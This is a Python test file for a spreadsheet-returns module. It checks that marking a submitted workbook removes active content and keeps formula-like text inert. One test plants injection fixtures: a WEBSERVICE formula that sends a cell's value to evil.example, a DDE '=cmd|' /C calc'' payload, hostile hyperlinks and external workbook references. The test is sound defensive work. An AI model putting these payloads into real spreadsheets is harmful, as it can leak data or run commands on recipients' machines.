"""Nothing that acts is given back: formulas become their results, links and rules go."""

import io
import re
from typing import Any
from zipfile import ZipFile

from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import Rule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table

from dxkpi.returns import ReturnForm
from dxkpi.returns.form_columns import ACTUALS_SHEET
from tests.support.marked_forms import (
    FINDINGS,
    all_parts,
    finding_at,
    mark_return,
    sheet_of,
)
from tests.support.workbooks import changed_workbook


def test_nothing_of_theirs_that_acts_is_given_back(
    return_form: ReturnForm, filled_in: bytes
) -> None:
    def arm(book: Any) -> None:
        sheet = book[ACTUALS_SHEET]
        sheet["O6"] = '=WEBSERVICE("http://evil.example/?"&K6)'
        sheet["O7"] = "=cmd|' /C calc'!A0"
        sheet["O8"] = "資料"
        sheet["O8"].hyperlink = "http://evil.example/link"
        sheet["O9"].hyperlink = "http://evil.example/empty"
        sheet["O9"].value = None
        sheet["Q20"] = "=[1]evil!A1"
        sheet.add_data_validation(
            DataValidation(type="custom", formula1='=evil("x")', sqref="K6")
        )
        sheet.conditional_formatting.add(
            "A1:B2", Rule(type="expression", formula=["evil(1)"])
        )
        book.defined_names["evil_name"] = DefinedName(
            "evil_name", attr_text="[1]evil!$A$1"
        )
        sheet.defined_names["evil_local"] = DefinedName(
            "evil_local", attr_text="[1]evil!$A$1"
        )
        other = book.create_sheet("evil table")
        for row in (("evil a", "b"), (1, 2)):
            other.append(row)
        other.add_table(Table(displayName="evil_table", ref="A1:B2"))
        chart = BarChart()
        chart.add_data(
            Reference(range_string="'evil table'!$B$1:$B$2"), titles_from_data=True
        )
        other.add_chart(chart)
        book.create_chartsheet("evil chart")
        book.loaded_theme = b'<?xml version="1.0"?><a:theme xmlns:a="x" xmlns:r="y"><a:blip r:link="evil"/></a:theme>'

    text = all_parts(mark_return(changed_workbook(filled_in, arm), return_form))
    assert "evil" not in text.replace('name="evil table"', "").replace("evil a<", "")
    assert "cmd|" not in text
    assert not re.search(
        r"externalLink|vbaProject|/charts/|/tables/|/drawings/drawing", text
    )
    assert "hyperlink" not in text
    formulas = re.findall(r"<f>(.*?)</f>", text)
    assert formulas
    assert all(formula.startswith(("IF(ISNUMBER(", "IF($K")) for formula in formulas)


def test_a_formula_comes_back_as_its_last_result(
    return_form: ReturnForm, filled_in: bytes
) -> None:
    with_formula = changed_workbook(
        filled_in, lambda book: book[ACTUALS_SHEET].__setitem__("K10", "=8+9")
    )
    with ZipFile(io.BytesIO(with_formula)) as old:
        saved = io.BytesIO()
        with ZipFile(saved, "w") as new:
            for name in old.namelist():
                new.writestr(
                    name,
                    re.sub(
                        rb"<f>8\+9</f><v ?/>", b"<f>8+9</f><v>17</v>", old.read(name)
                    ),
                )
    cell = sheet_of(mark_return(saved.getvalue(), return_form))["K10"]
    assert (cell.value, cell.data_type) == (17, "n")


def test_text_that_looks_like_a_formula_stays_text(
    return_form: ReturnForm, filled_in: bytes
) -> None:
    def write(book: Any) -> None:
        book[ACTUALS_SHEET]["O6"] = "=1+1"
        book[ACTUALS_SHEET]["O6"].data_type = "s"

    findings = (
        *FINDINGS,
        finding_at("not_a_number", "K8", value="=2+2\x01"),
    )
    sheet = sheet_of(
        mark_return(changed_workbook(filled_in, write), return_form, findings)
    )
    assert (sheet["O6"].value, sheet["O6"].data_type) == ("=1+1", "s")
    assert "_x0001_" in sheet["Q8"].value


def test_a_workbook_that_does_not_open_in_full_comes_back_with_its_values(
    return_form: ReturnForm, filled_in: bytes
) -> None:
    with ZipFile(io.BytesIO(filled_in)) as old:
        saved = io.BytesIO()
        with ZipFile(saved, "w") as new:
            for name in old.namelist():
                new.writestr(
                    name, b"<broken" if name == "docProps/core.xml" else old.read(name)
                )
    sheet = sheet_of(mark_return(saved.getvalue(), return_form))
    assert (sheet["K9"].value, sheet["K6"].value) == ("集計中", 101.2)
    assert sheet["Q9"].value.startswith("× K9")
